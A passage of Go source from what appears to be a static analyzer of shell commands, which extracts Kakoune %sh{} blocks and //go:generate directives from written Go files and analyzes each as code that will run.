	pairs := map[byte]byte{'{': '}', '(': ')', '[': ']', '<': '>'}
	for i := 0; ; {
		j := strings.Index(text[i:], "%sh")
		if j < 0 || i+j+3 >= len(text) {
			return
		}
		i += j + 3
		open := text[i]
		close, ok := pairs[open]
		if !ok {
			continue
		}
		depth, k := 1, i+1
		for ; k < len(text) && depth > 0; k++ {
			switch text[k] {
			case open:
				depth++
			case close:
				depth--
			}
		}
		end := k - 1
		if depth > 0 {
			end = len(text) // unclosed: kak refuses it, but the rest is judged as if it ran
		}
		cr.shell(text[i+1 : end])
		i = k
	}
}

// goGenerateHook follows the //go:generate lines of the Go files this
// line wrote below the command's directory: go generate runs each (as a
// program with its words, which the shell reading errs toward).
func goGenerateHook(fr *frame, c *Command, args []arg, pa parsedArgs) {
	if c.Dir == "" {
		return
	}
	var files []string
	for p := range fr.r.files {
		if strings.HasSuffix(p, ".go") && strings.HasPrefix(p, c.Dir+"/") {
			files = append(files, p)
		}
	}
	slices.Sort(files) // in a stable order
	for _, p := range files {
		w := fr.r.files[p]
		if !w.known {
			fr.emitDynamic(&Dynamic{Kind: DynSource, Sink: c, Known: p, Feeders: writers(w), Pos: c.Pos})
			continue
		}
		for _, line := range strings.Split(w.text, "\n") {
			if rest, ok := strings.CutPrefix(line, "//go:generate "); ok {
				cr := &codeRun{fr: fr, c: c, via: "go generate", at: arg{Word: Word{Pos: c.Pos}, feeders: writers(w)}}
				cr.shell(rest)
			}
		}
	}
}
